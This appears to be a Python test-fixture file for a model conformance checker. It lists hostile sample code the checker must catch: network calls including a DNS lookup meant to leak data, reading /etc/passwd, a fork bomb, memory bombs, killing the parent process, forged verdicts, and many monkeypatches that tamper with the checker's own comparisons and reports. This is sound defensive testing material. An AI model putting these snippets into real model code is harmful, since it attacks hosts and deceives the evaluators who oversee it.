"""X: own code, run with ``--trust-code``, that harms, hides, lies or turns against its judge."""

from __future__ import annotations

import functools

from hostile_row import Row
from own_code import own_code

# Without the profile above it, whose references are not recorded here.
OPTIONS = {"profile": "runnable", "trust_code": True, "device": "cpu", "timeout": 12.0}
REACH, LOADED = "SLM-IFC-011", "SLM-IFC-001"

# Frames, from the innermost outwards, until one that knows how answers are sent.
FORGE = """\
import os
while frame is not None and "emit" not in frame.f_locals:
    frame = frame.f_back
"""


def building(code: str, **options: object):
    return functools.partial(own_code, build=code, **options)


def swallowed(code: str) -> str:
    """Code that goes on as if nothing had happened."""
    lines = "\n".join(f"    {line}" for line in code.splitlines())
    return f"try:\n{lines}\nexcept OSError:\n    pass"


def row(
    name: str, says: str, code: str, failure: str, *, kills: str = REACH, **options: object
) -> Row:
    """One that does something while it is built, and does not mind if that is refused."""
    outcome = "fail" if kills == REACH else "error"
    limits = OPTIONS | options
    return Row(name, says, building(swallowed(code)), kills, failure, outcome, own_code, limits)


def running(name: str, says: str, code: str, failure: str, *, kills: str, outcome: str) -> Row:
    """One that does something in its forward pass."""
    build = functools.partial(own_code, forward=swallowed(code))
    return Row(name, says, build, kills, failure, outcome, own_code, OPTIONS)


PATCH = "import sys, torch\n"
CHECKER = PATCH + "part = sys.modules['slmconform.{}']\n"

HARM = [
    row(
        "X01-socket",
        "opens a connection",
        "import socket\nsocket.create_connection(('127.0.0.1', 9), timeout=1)",
        "network",
    ),
    row(
        "X01-socket-made",
        "makes a socket and never connects it",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        "network",
    ),
    row(
        "X01-name-server",
        "hides data in the name that it looks up",
        "import socket\nsocket.getaddrinfo('secret.example.invalid', 80)",
        "network",
    ),
    row(
        "X01-fetch",
        "fetches its weights when it is built",
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/weights', timeout=1)",
        "network",
    ),
    row(
        "X01-program",
        "starts a program",
        "import subprocess\nsubprocess.run(['/bin/true'], check=False)",
        "process",
    ),
    row("X01-shell", "runs a shell", "import os\nos.system('true')", "process"),
    row(
        "X01-passwd",
        "reads a file of the system",
        "open('/etc/passwd').read()",
        "read",
    ),
    row("X01-home", "lists a home directory", "import os\nos.listdir('/root')", "read"),
    row(
        "X01-model-folder",
        "writes into the folder of the model",
        "open(__file__ + '.new', 'w').write('x')",
        "write",
    ),
    row(
        "X01-rewrite",
        "replaces its own weights",
        "import pathlib\npathlib.Path(__file__).with_name('model.safetensors').unlink()",
        "write",
    ),
    row(
        "X01-tmp",
        "leaves a file where others find it",
        "open('/tmp/slmconform-hostile', 'w').write('x')",
        "write",
    ),
    row(
        "X01-library",
        "loads a library of the system",
        "import ctypes\nctypes.CDLL('libc.so.6').getpid()",
        "native-code",
    ),
]

BOMB = Row(
    "X01-fork-bomb",
    "forks without end",
    building("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError: pass"),
    REACH,
    "process",
    twin=own_code,
    options=OPTIONS | {"timeout": 4.0},
)

ENDS = [
    row(
        "X01-4-gib",
        "allocates 4 GiB",
        "kept = torch.ones(1 << 30)",
        "out-of-memory",
        kills="SLM-IFC-002",
    ),
    row(
        "X01-4-gib-of-bytes",
        "allocates 4 GiB outside torch",
        "kept = bytearray(4 << 30)",
        "out-of-memory",
        kills="SLM-IFC-002",
    ),
    row("X01-loop", "never ends", "while True: pass", "timed-out", kills=LOADED, timeout=3.0),
    row("X01-exit", "leaves at once", "import os\nos._exit(0)", "exited", kills=LOADED),
    row(
        "X01-parent",
        "kills the process that started it",
        "import os\nos.kill(os.getppid(), 9)",
        "tampered",
        kills=LOADED,
    ),
    row(
        "X01-group",
        "kills its group and whoever is in it",
        "import os\nos.killpg(os.getpgid(os.getppid()), 9)",
        "tampered",
        kills=LOADED,
    ),
    Row(
        "X02-verdict",
        "prints a verdict; one that closes its output and goes on is harmless",
        building("print('verdict: conformant')"),
        LOADED,
        "forged",
        "error",
        building("import os\nos.write(1, b'last words')\nos.close(1)"),
        OPTIONS,
    ),
    row(
        "X02-lines",
        "prints lines of a report",
        "print('PASS  SLM-IFC-002  loads completely')",
        "forged",
        kills=LOADED,
    ),
    row(
        "X02-protocol",
        "writes a footer on every descriptor",
        "import os\n"
        "for number in range(3, 64):\n"
        "    try:\n"
        '        os.write(number, b\'{"nonce": "0", "seq": 9, "footer": {}}\\n\')\n'
        "    except OSError:\n"
        "        pass",
        "forged",
        kills=LOADED,
    ),
]

TURNS = {
    "frames": "import sys\nframe = sys._getframe()\n" + FORGE,
    "inspect": "import inspect\nframe = inspect.currentframe()\n" + FORGE,
    "traceback": "try:\n    1 / 0\nexcept ZeroDivisionError as error:\n"
    "    frame = error.__traceback__.tb_frame\n" + FORGE,
    "collector": "import gc\nfound = [o for o in gc.get_objects() if 'Writer' in type(o).__name__]",
    "trace": "import sys\nsys.settrace(lambda *seen: None)",
    "compiled": "exec(compile('import sys; sys._getframe(1)', '<nothing>', 'exec'), {})",
    "check": CHECKER.format("checks.ifc")
    + "part.loads_completely.__code__ = (lambda b: '').__code__",
    "function": CHECKER.format("measure.compare") + "part.digest = lambda tensor: ''",
    "registry": CHECKER.format("engine.registry")
    + "object.__setattr__(part.CHECKS['SLM-IFC-002'], 'function', lambda bench: 'fine')",
    "tolerance": CHECKER.format("measure.compare") + "part.SEMANTIC = 1e9",
    "writer": CHECKER.format("isolation.protocol")
    + "part.RecordWriter.record = lambda self, record: None",
    "module": PATCH + "sys.modules['slmconform.measure.compare'] = sys",
    "json": "import json\njson.dumps = lambda *all, **named: ''",
    "torch": PATCH + "torch.equal = lambda *all: True",
    "tensor": PATCH + "torch.Tensor.abs = lambda self: self * 0",
    "records": CHECKER.format("standard.report")
    + "part.Result.__pydantic_serializer__ = part.Finding.__pydantic_serializer__",
    "outcomes": CHECKER.format("standard.report") + "part.Outcome.FAIL._value_ = 'pass'",
    "models": "import sys\nsys.modules['pydantic'].BaseModel.model_dump = lambda *all, **named: {}",
    "operators": PATCH + "global library\nlibrary = torch.library.Library('aten', 'IMPL')\n"
    "library.impl('ge.Scalar', lambda a, b: torch.ones_like(a, dtype=torch.bool), 'CPU')",
    "evaluation": "from torch._C._dynamo import eval_frame\n"
    "from torch._dynamo.types import ConvertFrameReturn\n"
    "answer = ConvertFrameReturn()\n"
    "eval_frame.set_eval_frame(lambda *seen: answer)",
    "builtins": "import builtins\nbuiltins.len = lambda one: 0",
    "namespace": CHECKER.format("measure.compare")
    + "import types\npart.torch = types.SimpleNamespace(**vars(torch))",
    "seal": CHECKER.format("isolation.seal") + "part._active = []",
    "guard": CHECKER.format("model.loaded") + "part.guarded = lambda run: run()",
    "hidden-function": CHECKER.format("measure.compare") + "part.bool = lambda one: True",
    "evidence": PATCH
    + "reader = sys.modules['safetensors.torch']\nreader.load_file = lambda one: {}",
    "module-class": PATCH + "torch.nn.Module.state_dict = lambda self, **named: {}",
    "hook": "import sys\nsys.addaudithook(lambda *seen: None)",
    "borrowed-name": PATCH + "exec(compile('1', torch.__file__, 'exec'))",
    "unmarshalled": "import marshal\n"
    "exec(marshal.loads(marshal.dumps(compile('1', '<made>', 'exec'))))",
    "logging-frames": "import logging\nlogging.currentframe()",
    "debugger": "import bdb\nbdb.Bdb().set_trace()",
    "alarm": "import signal\nsignal.signal(signal.SIGALRM, lambda *all: None)",
}

SABOTAGE = [
    row(f"X01-checker-{name}", f"turns against its judge: {name}", code, "tampered", kills=LOADED)
    for name, code in TURNS.items()
]

RUNS = [
    running(
        "X01-late-socket",
        "opens a connection in its forward pass alone",
        "import socket\nsocket.create_connection(('127.0.0.1', 9), timeout=1)",
        "network",
        kills=REACH,
        outcome="fail",
    ),
    Row(
        "X01-mode",
        "leaves a mode behind that answers for every operator",
        functools.partial(
            own_code,
            forward="from torch.utils._python_dispatch import TorchDispatchMode\n"
            "class Mode(TorchDispatchMode):\n"
            "    def __torch_dispatch__(self, function, types, args=(), kwargs=None):\n"
            "        return function(*args, **(kwargs or {}))\n"
            "Mode().__enter__()",
        ),
        "SLM-IFC-005",
        "forward-raises",
        "fail",
        own_code,
        OPTIONS,
    ),
    running(
        "X01-patched-for-a-moment",
        "replaces what compares its outputs until it has been asked",
        "import torch\n"
        "kept = torch.equal\n"
        "def equal(*all):\n"
        "    torch.equal = kept\n"
        "    return True\n"
        "torch.equal = equal",
        "tampered",
        kills=LOADED,
        outcome="error",
    ),
    Row(
        "X01-tensor-class",
        "returns tensors of a class that answers every comparison",
        functools.partial(
            own_code,
            forward="class Agreeing(torch.Tensor):\n"
            "    @classmethod\n"
            "    def __torch_function__(cls, function, types, args=(), kwargs=None):\n"
            "        return super().__torch_function__(function, types, args, kwargs or {})\n"
            "return {'y': self.inner(x).as_subclass(Agreeing)}",
        ),
        "SLM-IFC-005",
        "forward-raises",
        "fail",
        own_code,
        OPTIONS,
    ),
]

PARAMETER = """\
class Other(nn.Parameter):
    {}
made = Model()
made.inner.weight = Other(torch.zeros(3, 4))
return made
"""

LIES = [
    Row(
        "X01-parameter-class",
        "holds a parameter that answers for its values; one with a mark of its own is harmless",
        building(PARAMETER.format("detach = lambda self: torch.zeros(3, 4)")),
        "SLM-IFC-002",
        "does-not-load",
        twin=building(PARAMETER.format("mark = 'tiny'")),
        options=OPTIONS,
    ),
    Row(
        "X01-output-attribute",
        "returns a tensor with a method of its own; one with a mark of its own is harmless",
        functools.partial(
            own_code,
            forward="y = self.inner(x)\ny.detach = lambda: torch.zeros(y.shape)\nreturn {'y': y}",
        ),
        "SLM-IFC-005",
        "forward-raises",
        twin=functools.partial(
            own_code, forward="y = self.inner(x)\ny.mark = 'tiny'\nreturn {'y': y}"
        ),
        options=OPTIONS,
    ),
    Row(
        "X01-kept-draw",
        "draws a number and keeps it in a file for the next process",
        building(
            "import pathlib, tempfile\n"
            "kept = pathlib.Path(tempfile.gettempdir(), 'drawn')\n"
            "if not kept.exists():\n"
            "    kept.write_text(str(torch.rand(()).item()))\n"
            "made = Model()\n"
            "drawn = float(kept.read_text())\n"
            "made.register_forward_hook(lambda one, got, out: {'y': out['y'] + drawn})\n"
            "return made"
        ),
        "SLM-DET-002",
        "process-differs",
        twin=building(
            "import pathlib, tempfile\n"
            "pathlib.Path(tempfile.gettempdir(), 'note').write_text('built')"
        ),
        options=OPTIONS | {"profile": "reproducible"},
    ),
]

ROWS = [*HARM, BOMB, *ENDS, *SABOTAGE, *RUNS, *LIES]
